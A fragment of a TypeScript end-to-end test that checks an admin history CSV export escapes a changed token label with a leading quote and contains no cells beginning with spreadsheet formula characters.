          const rows = parseCsv(csv.text);
          const header = rows[0];
          const labelColumn = header.indexOf('token_label');
          expect(labelColumn).toBeGreaterThanOrEqual(0);
          // Newest first: the change just made.
          expect({ label: value, cell: rows[1][labelColumn] }).toEqual({
            label: value,
            cell: `'${value}`,
          });
          for (const row of rows)
            for (const cell of row)
              expect({ cell, formula: /^[=+\-@\t\r]/.test(cell) }).toEqual({
                cell,
                formula: false,
              });
          const json = await alice.get<{ items: { token: { label: string } | null }[] }>(
            `/api/admin/history?tokenId=${bobTokenId}&type=token.label_changed&limit=1`,
          );
          expect(json.body.items[0].token?.label).toBe(value);
        },
        40,
      );
    });
  });
});
